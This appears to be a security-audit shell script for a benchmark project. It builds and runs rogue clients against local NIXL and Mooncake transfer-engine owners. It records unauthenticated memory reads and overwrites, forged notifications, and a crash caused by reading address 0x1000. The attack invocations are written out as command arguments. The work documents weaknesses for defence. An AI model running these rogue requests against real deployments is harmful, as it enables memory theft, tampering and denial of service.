#!/usr/bin/env bash
# What a NIXL owner and a Mooncake (tcp) owner, started as bench/peers starts
# them, let a process do that knows only the owner's port(s) or, for UCX, its
# worker address. Builds the rogue, runs each experiment with bounded
# timeouts, prints one "FINDING" line per observation and exits 0: it
# documents, it does not pass or fail. Logs stay in OUTDIR.
#
#   bench/peers/security/run.sh [OUTDIR]     (default: a new /tmp/kvx-security.XXXXXX)
#
# Needs build/peers (make build/peers/ready). The rogue is compiled against
# UCX headers (UCX_INCLUDE, else build/venv's libucx 1.22 wheel, else
# /usr/include) and linked with the libucp NIXL's wheel bundles.
set -u
ROOT=$(cd "$(dirname "$0")/../../.." && pwd)
HERE=$ROOT/bench/peers/security
PY=$ROOT/build/peers/bin/python
if [ ! -e "$ROOT/build/peers/ready" ] || [ ! -x "$PY" ]; then
    echo "skip: build/peers is not installed (make build/peers/ready)"
    exit 0
fi
OUT=${1:-$(mktemp -d /tmp/kvx-security.XXXXXX)}
mkdir -p "$OUT"
echo "logs in $OUT"

finding() { echo "FINDING: $*"; }
jget() { python3 -c 'import json,sys; v=json.load(open(sys.argv[1]))[sys.argv[2]]; print("%x" % v if sys.argv[3:] == ["hex"] else v)' "$@"; }
# wait_file FILE SECONDS
wait_file() { local i; for ((i = 0; i < $2 * 10; i++)); do [ -e "$1" ] && return 0; sleep 0.1; done; return 1; }
# wait_pid PID SECONDS: 0 once gone
wait_pid() { local i; for ((i = 0; i < $2 * 10; i++)); do kill -0 "$1" 2>/dev/null || return 0; sleep 0.1; done; return 1; }
listening() { ss -ltnpH 2>/dev/null | awk -v p="pid=$1," 'index($0, p) { print $4 }' | sort -u | tr '\n' ' '; }
other_ipv4() { ip -4 -o addr show 2>/dev/null | awk '$2 != "lo" { sub("/.*", "", $4); print $4; exit }'; }

SP=$("$PY" -c 'import sysconfig; print(sysconfig.get_paths()["purelib"])')

# ---------------------------------------------------------------- NIXL ----
nixl_section() {
    local LIBD=$SP/nixl_cu12.libs UCP UCS INC
    UCP=$(ls "$LIBD"/libucp-*.so* 2>/dev/null | head -1)
    UCS=$(ls "$LIBD"/libucs-*.so* 2>/dev/null | head -1)
    if [ -z "$UCP" ] || [ -z "$UCS" ]; then
        echo "skip nixl: no libucp/libucs in $LIBD"
        return
    fi
    INC=${UCX_INCLUDE:-}
    for d in "$ROOT/build/venv/lib/python3.11/site-packages/libucx/include" /usr/include; do
        [ -z "$INC" ] && [ -e "$d/ucp/api/ucp.h" ] && INC=$d
    done
    if [ -z "$INC" ]; then
        echo "skip nixl: no UCX headers (set UCX_INCLUDE)"
        return
    fi
    if ! cc -std=c99 -O1 -g -isystem "$INC" "$HERE/nixl_rogue.c" "$UCP" "$UCS" -Wl,-rpath,"$LIBD" \
            -o "$OUT/nixl_rogue" 2>"$OUT/nixl_rogue.build.log"; then
        echo "skip nixl: the rogue did not build (see $OUT/nixl_rogue.build.log)"
        return
    fi
    export UCX_TLS=tcp UCX_NET_DEVICES=lo  # as make bench-peers runs NIXL

    # start_owner DIR SECONDS [env...]: an owner in the background; sets OPID
    start_owner() {
        local dir=$1 life=$2
        shift 2
        rm -rf "$dir" && mkdir -p "$dir"
        # in a subshell that keeps the exit status, so that bash's own "Segmentation fault" notice stays out
        ( env "$@" timeout $((life + 20)) "$PY" "$HERE/nixl_owner.py" "$dir" "$life" >"$dir/owner.log" 2>&1
          echo $? >"$dir/owner.rc" ) 2>/dev/null &
        OPID=$!
        if ! wait_file "$dir/ready" 30; then
            echo "nixl: the owner did not start; see $dir/owner.log"
            return 1
        fi
        timeout 20 "$PY" "$HERE/nixl_worker_addr.py" "$dir/owner0.md" "$dir/worker.addr" >/dev/null || return 1
    }
    # owner_status PID DIR: waits for the owner; ST says how it ended
    owner_status() {
        local rc
        wait "$1"
        rc=$(cat "$2/owner.rc" 2>/dev/null || echo 255)
        if [ $rc -gt 128 ]; then ST="killed by signal $((rc - 128)) (SIG$(kill -l $((rc - 128))))"; else ST="exit status $rc"; fi
    }

    local D=$OUT/nixl V C CLEN R0 HEAD0 TAG ST
    start_owner "$D" 30 || return
    V=$(jget "$D/canary.json" version)
    TAG="nixl $(echo "$V" | sed -E 's/^nixl-cu12 ([^ ]*) .*UCX (.*)$/\1 (ucx \2)/')"
    C=$(jget "$D/canary.json" canary_addr hex)
    CLEN=$(jget "$D/canary.json" canary_len)
    R0=$("$PY" -c 'import json,sys; print("%x" % json.load(open(sys.argv[1]))["regions"][0][0])' "$D/canary.json")
    HEAD0=$(jget "$D/canary.json" region0_head)
    finding "$TAG: owner ($V) listens on $(listening "$(jget "$D/canary.json" pid)")"
    finding "$TAG: UCX worker address published in the agent metadata: $(stat -c %s "$D/worker.addr") bytes"

    timeout 40 "$OUT/nixl_rogue" "$D/worker.addr" "get:$C:$CLEN" "put:$C:ROGUE-WAS-HERE" "get:$C:16" "get:$R0:16" \
        "notif:kvx-bench-reader-1:kvx-bench:0:0" "notif:nobody-known:hello" "raw:not-a-nixlSerDes-string" \
        >"$D/rogue.log" 2>&1
    echo "rogue exit status $?" >>"$D/rogue.log"
    sleep 1
    touch "$D/stop"
    wait_pid $OPID 10
    owner_status $OPID "$D"
    echo "owner $ST" >>"$D/owner.log"

    finding "$TAG: rogue ($(grep -m1 -oE 'ucx [0-9.]+' "$D/rogue.log")) endpoint from the worker address alone: $(grep -m1 'endpoint to the owner' "$D/rogue.log" | sed 's/.*: //')"
    if grep -q "get 0x$C len $CLEN: Success.*NIXL-OWNER-CANARY" "$D/rogue.log"; then
        finding "$TAG: get of unregistered canary (self-packed rkey): RETURNED the canary: $(grep -m1 "get 0x$C len $CLEN" "$D/rogue.log" | sed 's/.*text=//')"
    else
        finding "$TAG: get of unregistered canary: did not return it: $(grep -m1 "get 0x$C len $CLEN" "$D/rogue.log")"
    fi
    if grep -q "canary is now b'ROGUE-WAS-HERE'" "$D/owner.log"; then
        finding "$TAG: put to unregistered canary: OVERWROTE it; owner printed: $(grep -m1 'canary is now' "$D/owner.log")"
    else
        finding "$TAG: put to unregistered canary: owner saw no change ($(grep -m1 "put 0x$C" "$D/rogue.log"))"
    fi
    local got
    got=$(grep -m1 "get 0x$R0 len 16" "$D/rogue.log" | sed -n 's/.*hex=\([0-9a-f]*\).*/\1/p')
    if [ -n "$got" ] && [ "$got" = "$HEAD0" ]; then
        finding "$TAG: get of registered KV region without its rkey: RETURNED its bytes ($got)"
    else
        finding "$TAG: get of registered KV region without its rkey: $(grep -m1 "get 0x$R0 len 16" "$D/rogue.log")"
    fi
    local line
    while IFS= read -r line; do
        finding "$TAG: forged notification delivered to the application: $line"
    done < <(grep 'notification from agent' "$D/owner.log")
    grep -q 'notification from agent' "$D/owner.log" || finding "$TAG: no forged notification reached get_new_notifs()"

    # (c) 8 bytes at 0x1000, as the bench owner runs (UCX_HANDLE_ERRORS left to the wheel's default).
    D=$OUT/nixl-0x1000
    start_owner "$D" 30 || return
    timeout 30 "$OUT/nixl_rogue" "$D/worker.addr" "get:1000:8" >"$D/rogue.log" 2>&1
    wait_pid $OPID 10
    owner_status $OPID "$D"
    echo "owner $ST" >>"$D/owner.log"
    finding "$TAG: get of 8 bytes at 0x1000: owner $ST; rogue saw: $(grep -m1 'get 0x1000' "$D/rogue.log" | sed 's/^rogue: //')"
    # The same with UCX's backtrace on, to see where it died.
    D=$OUT/nixl-0x1000-bt
    start_owner "$D" 30 UCX_HANDLE_ERRORS=bt || return
    timeout 30 "$OUT/nixl_rogue" "$D/worker.addr" "get:1000:8" >"$D/rogue.log" 2>&1
    wait_pid $OPID 10
    owner_status $OPID "$D"
    echo "owner $ST" >>"$D/owner.log"
    finding "$TAG: same with UCX_HANDLE_ERRORS=bt: $(grep -m1 'Caught signal' "$D/owner.log" | sed 's/^\[[^]]*\] //'); frames: $(grep -oE '(ucp_get_req_handler|uct_tcp_ep_am_bcopy|nixlUcxSharedThread3run|ucp_worker_progress)' "$D/owner.log" | tr '\n' ' ')"

    # Which UCX builds can reach the owner's 1.23 worker address.
    local U alt
    for U in "$ROOT/build/venv/lib/python3.11/site-packages/libucx" /usr; do
        [ -e "$U/include/ucp/api/ucp.h" ] || continue
        alt=$OUT/nixl_rogue.$(basename "$U")
        cc -std=c99 -O1 -g -isystem "$U/include" "$HERE/nixl_rogue.c" -L"$U/lib" -L"$U/lib/x86_64-linux-gnu" -lucp -lucs \
            -Wl,-rpath,"$U/lib" -o "$alt" 2>/dev/null || continue
        D=$OUT/nixl-compat-$(basename "$U")
        start_owner "$D" 15 || return
        C=$(jget "$D/canary.json" canary_addr hex)
        timeout 20 "$alt" "$D/worker.addr" "get:$C:16" >"$D/rogue.log" 2>&1
        touch "$D/stop"
        wait_pid $OPID 10
        owner_status $OPID "$D"
        finding "$TAG: a rogue on $(grep -m1 -oE 'ucx [0-9.]+' "$D/rogue.log" || echo "UCX from $U"): $(grep -m1 -E 'get 0x|ucp_ep_create' "$D/rogue.log" | sed 's/^rogue: //; s/ hex=[0-9a-f]*//')"
    done
    unset UCX_TLS UCX_NET_DEVICES
}

# ------------------------------------------------------------ Mooncake ----
mooncake_section() {
    local D=$OUT/mooncake
    rm -rf "$D" && mkdir -p "$D"
    timeout 90 "$PY" "$HERE/mooncake_owner.py" "$D" 60 >"$D/owner.log" 2>&1 &
    local OPID=$!
    if ! wait_file "$D/ready" 30; then
        echo "skip mooncake: the owner did not start; see $D/owner.log"
        return
    fi
    local J=$D/owner.json TAG PORT C CLEN R0 LEN0 HEAD0 IP line
    TAG="mooncake $(jget "$J" version | sed 's/^mooncake-transfer-engine-//') tcp"
    PORT=$(jget "$J" rpc_port)
    C=$(jget "$J" canary_addr hex)
    CLEN=$(jget "$J" canary_len)
    R0=$(python3 -c 'import json,sys; print("%x" % json.load(open(sys.argv[1]))["regions"][0][0])' "$J")
    LEN0=$(python3 -c 'import json,sys; print(json.load(open(sys.argv[1]))["regions"][0][1])' "$J")
    HEAD0=$(jget "$J" region0_head)
    finding "$TAG: owner started on $(jget "$J" session) listens on $(listening "$(jget "$J" pid)")"
    IP=$(other_ipv4)
    if [ -n "$IP" ]; then
        timeout 30 python3 "$HERE/mooncake_rogue.py" "$IP" "$PORT" meta "reg:0:16" >"$D/rogue-$IP.log" 2>&1
        while IFS= read -r line; do
            finding "$TAG: via $IP (eth, not loopback): ${line#rogue: }"
        done <"$D/rogue-$IP.log"
    fi
    timeout 60 python3 "$HERE/mooncake_rogue.py" 127.0.0.1 "$PORT" meta "reg:0:16" "write:$R0:ROGUE-IN-KV" \
        "read:$C:$CLEN" "write:$C:ROGUE" "read:$C:$CLEN:v1" "write:$C:ROGUE:v1" "read:1000:8" "read:1000:8:v1" \
        "reg:$((LEN0 - 8)):16" "stall:12" >"$D/rogue.log" 2>&1
    sleep 0.5
    local alive=gone
    kill -0 $OPID 2>/dev/null && alive=alive
    touch "$D/stop"
    wait_pid $OPID 10
    wait $OPID
    echo "owner exit status $?" >>"$D/owner.log"

    finding "$TAG: knowing only the RPC port: $(grep -m1 'Metadata request' "$D/rogue.log" | sed 's/^rogue: //')"
    local got
    got=$(grep -m1 "registered buffer 0 + 0)" "$D/rogue.log" | sed -n 's/.*hex=\([0-9a-f]*\).*/\1/p')
    if [ -n "$got" ] && [ "$got" = "$HEAD0" ]; then
        finding "$TAG: read of registered memory: RETURNED its bytes ($got)"
    else
        finding "$TAG: read of registered memory: $(grep -m1 'registered buffer 0 + 0)' "$D/rogue.log")"
    fi
    if grep -q "registered region 0 now starts with b'ROGUE-IN-KV" "$D/owner.log"; then
        finding "$TAG: write to registered memory: OVERWROTE it; owner printed: $(grep -m1 'registered region 0 now' "$D/owner.log")"
    else
        finding "$TAG: write to registered memory: $(grep -m1 "write 0x$R0" "$D/rogue.log")"
    fi
    for line in "read 0x$C len $CLEN v2" "write 0x$C 'ROGUE' v2" "read 0x$C len $CLEN v1" "write 0x$C 'ROGUE' v1" \
            "read 0x1000 len 8 v2" "read 0x1000 len 8 v1" "registered buffer 0 + $((LEN0 - 8))"; do
        finding "$TAG: $(grep -m1 -F "$line" "$D/rogue.log" | sed 's/^rogue: //')"
    done
    finding "$TAG: canary at the end: $(grep -m1 'exiting normally' "$D/owner.log" | sed 's/.*canary //') (owner $alive after the 0x1000 reads; log: $(grep -c 'is not within any registered buffer' "$D/owner.log") 'not within any registered buffer' errors)"
    finding "$TAG: $(grep -m1 'silent connection' "$D/rogue.log" | sed 's/^rogue: //')"
}

nixl_section
mooncake_section
exit 0
